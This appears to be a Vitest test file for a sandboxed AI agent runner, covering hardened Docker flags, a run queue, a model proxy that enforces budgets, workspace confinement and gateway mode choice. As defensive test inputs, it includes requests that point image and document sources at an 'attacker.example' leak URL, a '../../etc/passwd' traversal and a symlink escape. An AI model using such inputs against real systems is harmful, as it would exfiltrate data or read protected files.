/**
 * The container runner's parts without Docker: the hardened `docker run` arguments, the
 * in-order run queue, the model proxy (key added by the bridge, the run's model and budget
 * enforced) against the fake Messages API, the runner's workspace confinement, and the gateway's
 * choice of container mode and its usage rows.
 */
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runTool } from "../../bridge/agent-runner/tools";
import { containerName, dockerRunArgs, workspaceVolume } from "../../bridge/src/containers/docker-args";
import { ModelProxy } from "../../bridge/src/containers/model-proxy";
import { RunQueue } from "../../bridge/src/containers/run-queue";
import { readContainerSettings } from "../../bridge/src/containers/settings";
import type { ContainerTurnSpec } from "../../src/protocol/container";
import { containerStageOutput, containerTarget } from "../../src/agent/container-turn";
import { startFakeAnthropic, type FakeAnthropic } from "../fakes/anthropic-messages";
import { testSpec } from "../support/container-spec";

const KEY = "sk-ant-unit-containers";

const spec = (over: Partial<ContainerTurnSpec> = {}): ContainerTurnSpec => testSpec("hello", over);

describe("docker run arguments", () => {
  const settings = readContainerSettings({});
  if (!settings.ok) throw new Error(settings.error);
  const args = dockerRunArgs({
    name: containerName("run_ABC"),
    runId: "run_ABC",
    instance: "i1",
    volume: workspaceVolume("ch_1", "ana"),
    settings: settings.settings,
  });

  it("harden every run and mount only the sender's volume", () => {
    const joined = args.join(" ");
    for (const flag of [
      "--network none",
      "--read-only",
      "--cap-drop ALL",
      "--security-opt no-new-privileges",
      "--user 1000:1000",
      "--pids-limit 128",
      "--memory 512m",
      "--memory-swap 512m",
      "--cpus 1",
    ])
      expect(joined).toContain(flag);
    expect(joined).toContain("--tmpfs /tmp:rw,noexec,nosuid,nodev,size=64m");
    expect(args.filter((a) => a === "--mount" || a === "-v" || a === "--volume")).toEqual(["--mount"]);
    expect(joined).not.toContain("docker.sock");
    expect(args.some((a) => a === "-e" || a === "--env" || a.startsWith("--env"))).toBe(false);
    expect(args.at(-1)).toBe("loopgate-agent:latest");
    expect(containerName("run_ABC")).toBe("loopgate-run-run_abc");
  });

  it("give each channel + sender its own volume", () => {
    expect(workspaceVolume("ch_1", "ana")).toBe(workspaceVolume("ch_1", "ana"));
    expect(workspaceVolume("ch_1", "ana")).not.toBe(workspaceVolume("ch_1", "bob"));
    expect(workspaceVolume("ch_1", "ana")).not.toBe(workspaceVolume("ch_2", "ana"));
    expect(workspaceVolume("ch_1", "ana")).toMatch(/^loopgate-ws-[0-9a-f]{32}$/);
  });

  it("reject limits Docker would not understand", () => {
    expect(readContainerSettings({ CONTAINER_MEMORY: "lots" })).toMatchObject({ ok: false });
    expect(readContainerSettings({ MAX_CONCURRENT_CONTAINERS: "0" })).toMatchObject({ ok: false });
    expect(readContainerSettings({ MAX_CONCURRENT_CONTAINERS: "5", CONTAINER_CPUS: "0.5" })).toMatchObject({
      ok: true,
      settings: { maxConcurrent: 5, cpus: "0.5" },
    });
  });
});

describe("run queue", () => {
  it("runs at most N at a time, starts the waiting ones in order, and drops a withdrawn one", async () => {
    const queue = new RunQueue(2);
    const order: string[] = [];
    const gates = new Map<string, () => void>();
    const task = (id: string) => () =>
      new Promise<string>((resolve) => {
        order.push(id);
        gates.set(id, () => resolve(id));
      });
    const positions: number[] = [];
    const runs = ["a", "b", "c", "d", "e"].map((id) => queue.run(id, task(id), (p) => positions.push(p)));
    expect(order).toEqual(["a", "b"]);
    expect(positions).toEqual([1, 2, 3]);
    expect(queue.withdraw("d")).toBe(true);
    gates.get("a")!();
    await runs[0];
    await new Promise((r) => setTimeout(r, 0));
    expect(order).toEqual(["a", "b", "c"]);
    gates.get("b")!();
    gates.get("c")!();
    await Promise.all([runs[1], runs[2]]);
    await new Promise((r) => setTimeout(r, 0));
    expect(order).toEqual(["a", "b", "c", "e"]);
    gates.get("e")!();
    expect(await Promise.all(runs)).toEqual(["a", "b", "c", null, "e"]);
  });
});

describe("model proxy", () => {
  let fake: FakeAnthropic;
  beforeAll(async () => {
    fake = await startFakeAnthropic({ apiKey: KEY });
  });
  afterAll(() => fake.close());
  const settings = () => ({ apiKey: KEY, baseUrl: fake.url, modelTimeoutMs: 5000 });

  it("adds the key and sends the run's model and output cap, whatever the container asked", async () => {
    const proxy = new ModelProxy({ settings: settings(), spec: spec() });
    const answer = await proxy.call({
      model: "claude-opus-9",
      max_tokens: 64_000,
      system: spec().system,
      messages: spec().messages,
      metadata: { user_id: "x" },
    });
    expect(answer.ok).toBe(true);
    const sent = fake.requests.at(-1)!;
    expect(sent.headers["x-api-key"]).toBe(KEY);
    expect(sent.body).toMatchObject({ model: "claude-haiku-5-5", max_tokens: 300 });
    expect(sent.body).not.toHaveProperty("metadata");
    expect(proxy.calls).toHaveLength(1);
    expect(proxy.calls[0]).toMatchObject({ status: "ok", stopReason: "end_turn", model: "claude-haiku-5-5" });
    expect(proxy.usedTokens).toBeGreaterThan(0);
  });

  it("refuses calls past the run's steps or token budget, and without a key on the bridge", async () => {
    const budget = new ModelProxy({ settings: settings(), spec: spec({ tokenBudget: 5 }) });
    expect((await budget.call({ messages: spec().messages, system: spec().system })).ok).toBe(true);
    expect(await budget.call({ messages: spec().messages, system: spec().system })).toMatchObject({ ok: false, budget: true });
    const steps = new ModelProxy({ settings: settings(), spec: spec({ maxSteps: 1 }) });
    await steps.call({ messages: spec().messages, system: spec().system });
    expect(await steps.call({ messages: spec().messages, system: spec().system })).toMatchObject({ ok: false, error: expect.stringContaining("more than 1") });
    const keyless = new ModelProxy({ settings: { ...settings(), apiKey: undefined }, spec: spec() });
    expect(await keyless.call({ messages: spec().messages })).toMatchObject({ ok: false, error: expect.stringContaining("ANTHROPIC_API_KEY") });
  });

  it("passes only client tools and inline content: no URL sources, server tools or files, which would reach the network", async () => {
    const proxy = new ModelProxy({ settings: settings(), spec: spec({ maxSteps: 20 }) });
    const sentBefore = fake.requests.length;
    const user = (content: unknown) => ({ system: spec().system, messages: [{ role: "user", content }] });
    const refused = [
      user([{ type: "image", source: { type: "url", url: "https://attacker.example/leak?data=secret" } }]),
      user([{ type: "document", source: { type: "url", url: "https://attacker.example/x.pdf" } }]),
      user([{ type: "document", source: { type: "file", file_id: "file_123" } }]),
      user([{ type: "tool_result", tool_use_id: "t1", content: [{ type: "image", source: { type: "url", url: "https://attacker.example/y" } }] }]),
      user([{ type: "mcp_tool_use", id: "m1", name: "x", server_name: "s", input: {} }]),
      { ...user("hi"), tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
      { ...user("hi"), tools: [{ type: "web_search_20250305", name: "web_search", input_schema: {} }] },
    ];
    for (const request of refused) {
      expect(await proxy.call(request), JSON.stringify(request)).toMatchObject({ ok: false, error: expect.stringContaining("refused by the bridge") });
    }
    expect(fake.requests.length).toBe(sentBefore);
    const allowed = await proxy.call({
      ...user([
        { type: "text", text: "look" },
        {
          type: "image",
          source: {
            type: "base64",
            media_type: "image/png",
            data: "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
          },
        },
      ]),
      tools: [{ name: "read_file", description: "reads a file", input_schema: { type: "object" }, extra: "dropped" }],
    });
    expect(allowed, JSON.stringify(allowed)).toMatchObject({ ok: true });
    expect(fake.requests.at(-1)!.body).toMatchObject({ tools: [{ name: "read_file", description: "reads a file", input_schema: { type: "object" } }] });
    expect(JSON.stringify(fake.requests.at(-1)!.body)).not.toContain("dropped");
  });

  it("retries an overloaded API and records every attempt; a 401 is not retried", async () => {
    fake.enqueue({ kind: "error", status: 529 });
    const proxy = new ModelProxy({ settings: settings(), spec: spec(), retryBaseMs: 10 });
    expect((await proxy.call({ messages: spec().messages, system: spec().system })).ok).toBe(true);
    expect(proxy.calls.map((c) => c.status)).toEqual(["error", "ok"]);
    const wrongKey = new ModelProxy({ settings: { ...settings(), apiKey: "sk-wrong" }, spec: spec(), retryBaseMs: 10 });
    expect(await wrongKey.call({ messages: spec().messages, system: spec().system })).toMatchObject({ ok: false, error: expect.stringContaining("401") });
    expect(wrongKey.calls).toHaveLength(1);
  });
});

describe("runner tools", () => {
  const root = mkdtempSync(join(tmpdir(), "loopgate-ws-"));
  const outside = mkdtempSync(join(tmpdir(), "loopgate-outside-"));
  const limits = { outputBytes: 200, commandTimeoutMs: 2000, writeBytes: 1000 };

  it("confine file access to the workspace, symlinks included", async () => {
    writeFileSync(join(outside, "secret.txt"), "not yours");
    mkdirSync(join(root, "docs"));
    symlinkSync(outside, join(root, "docs", "escape"));
    expect(await runTool("write_file", { path: "docs/a.txt", content: "hi" }, root, limits)).toMatchObject({
      content: expect.stringContaining("wrote 2 bytes"),
    });
    expect(await runTool("read_file", { path: "docs/a.txt" }, root, limits)).toEqual({ content: "hi" });
    expect(await runTool("read_file", { path: "../../etc/passwd" }, root, limits)).toMatchObject({ isError: true });
    expect(await runTool("read_file", { path: "docs/escape/secret.txt" }, root, limits)).toMatchObject({ isError: true });
    expect(await runTool("write_file", { path: "docs/escape/new.txt", content: "x" }, root, limits)).toMatchObject({ isError: true });
    expect(await runTool("write_file", { path: "big.txt", content: "x".repeat(1001) }, root, limits)).toMatchObject({ isError: true });
    expect((await runTool("list_files", {}, root, limits)).content).toContain("docs/");
  });

  it("bound commands in time and output", async () => {
    const slow = await runTool("run_command", { command: "sleep 5; echo late" }, root, limits);
    expect(slow).toMatchObject({ isError: true, content: expect.stringContaining("killed after 2000 ms") });
    const loud = await runTool("run_command", { command: "yes | head -c 5000" }, root, limits);
    expect(loud.content).toContain("[…cut:");
    expect(loud.content.length).toBeLessThan(400);
    expect(await runTool("run_command", { command: "exit 3" }, root, limits)).toMatchObject({ isError: true, content: expect.stringContaining("exit code 3") });
  });
});

describe("gateway side", () => {
  const cfg = { AGENT_CONTAINER_MODE: false, AGENT_CONTAINER_BRIDGE: undefined };

  it("choose container mode per channel, with the channel's own bridge or the global one", () => {
    expect(containerTarget(cfg, null, {})).toEqual({ mode: "direct" });
    expect(containerTarget({ ...cfg, AGENT_CONTAINER_MODE: true }, null, { bridgeId: "brg_irc" })).toEqual({ mode: "container", bridgeId: "brg_irc" });
    expect(containerTarget({ ...cfg, AGENT_CONTAINER_MODE: true, AGENT_CONTAINER_BRIDGE: "brg_main" }, null, {})).toEqual({
      mode: "container",
      bridgeId: "brg_main",
    });
    expect(containerTarget({ ...cfg, AGENT_CONTAINER_MODE: true, AGENT_CONTAINER_BRIDGE: "brg_main" }, { container: false }, {})).toEqual({ mode: "direct" });
    expect(containerTarget(cfg, { container: true, containerBridgeId: "brg_x" }, { bridgeId: "brg_irc" })).toEqual({ mode: "container", bridgeId: "brg_x" });
    expect(containerTarget(cfg, { container: true }, {})).toMatchObject({ mode: "misconfigured" });
  });

  it("record a killed run as failed, with its calls priced and marked container, and tell the sender plainly", () => {
    const call = {
      at: 1,
      model: "claude-haiku-5-5",
      inputTokens: 1000,
      outputTokens: 100,
      cacheWriteTokens: 0,
      cacheWrite1hTokens: 0,
      cacheReadTokens: 0,
      latencyMs: 10,
      stopReason: "tool_use",
      status: "ok" as const,
    };
    const out = containerStageOutput({
      channelId: "ch_1",
      senderId: "ana",
      runId: "run_1",
      bridgeId: "brg_1",
      model: "claude-haiku-5-5",
      text: "hi",
      dispatchedAt: Date.now() - 5000,
      result: { outcome: "timeout", error: "killed after 600000 ms", calls: [call], steps: 1, toolCalls: 1, queuedMs: 0, runMs: 600_000 },
    });
    expect(out.reply.text).toMatch(/took too long/);
    expect(out.reply.text).not.toContain("600000");
    expect(out.run).toMatchObject({ status: "failed", error: "killed after 600000 ms" });
    expect(out.apiCalls).toHaveLength(1);
    expect(out.apiCalls[0]).toMatchObject({ mode: "container", runId: "run_1", inputTokens: 1000 });
    expect(out.apiCalls[0]!.costUsd).toBeGreaterThan(0);
    expect(out.events.map((e) => e.kind)).toEqual(["container.killed", "agent.run"]);
    expect(out.turns).toEqual([]);
  });
});
